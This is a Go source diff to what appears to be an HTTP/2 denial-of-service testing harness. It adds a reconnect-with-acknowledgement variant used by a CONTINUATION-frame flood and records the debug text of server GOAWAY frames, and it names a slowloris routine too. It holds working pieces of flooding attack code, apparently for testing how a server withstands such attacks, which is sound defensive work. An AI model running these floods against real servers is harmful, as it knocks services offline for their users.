@@ -5,6 +5,7 @@ import (
 	"context"
 	"fmt"
 	"sort"
+	"strconv"
 	"strings"
 	"sync"
 	"time"
@@ -73,7 +74,11 @@ func (st *attackStats) ended(c *attackConn, byServer bool) {
 		if st.GoAways == nil {
 			st.GoAways = map[string]int{}
 		}
-		st.GoAways[errCodeName(code)]++
+		name := errCodeName(code)
+		if c.goAwayDebug != "" {
+			name += " " + strconvQuote(c.goAwayDebug)
+		}
+		st.GoAways[name]++
 	}
 }
 
@@ -97,13 +102,18 @@ func (st *attackStats) reaction() string {
 // server closes it or ctx ends, then opening another while ctx lasts: an
 // attacker who comes back.
 func reconnecting(ctx context.Context, addr string, st *attackStats, n int, read bool, body func(ctx context.Context, c *attackConn)) {
+	reconnectingAcked(ctx, addr, st, n, read, false, body)
+}
+
+// reconnectingAcked is reconnecting with dialAttackAcked's acked.
+func reconnectingAcked(ctx context.Context, addr string, st *attackStats, n int, read, acked bool, body func(ctx context.Context, c *attackConn)) {
 	var wg sync.WaitGroup
 	for range n {
 		wg.Add(1)
 		go func() {
 			defer wg.Done()
 			for ctx.Err() == nil {
-				c, err := dialAttack(addr, true, read)
+				c, err := dialAttackAcked(addr, true, read, acked)
 				if err != nil {
 					sleepCtx(ctx, 10*time.Millisecond)
 					continue
@@ -165,7 +175,7 @@ func continuationFlood(ctx context.Context, addr string, st *attackStats) {
 	for range 4 {
 		batch = appendFrame(batch, frameContinuation, 0, 1, filler)
 	}
-	reconnecting(ctx, addr, st, 16, true, func(ctx context.Context, c *attackConn) {
+	reconnectingAcked(ctx, addr, st, 16, true, true, func(ctx context.Context, c *attackConn) {
 		if c.write(appendFrame(nil, frameHeaders, 0, 1, block)) != nil {
 			return
 		}
@@ -325,3 +335,6 @@ func slowloris(ctx context.Context, addr string, st *attackStats) {
 	}
 	wg.Wait()
 }
+
+// strconvQuote quotes a GOAWAY's debug data for the report.
+func strconvQuote(s string) string { return strconv.Quote(s) }
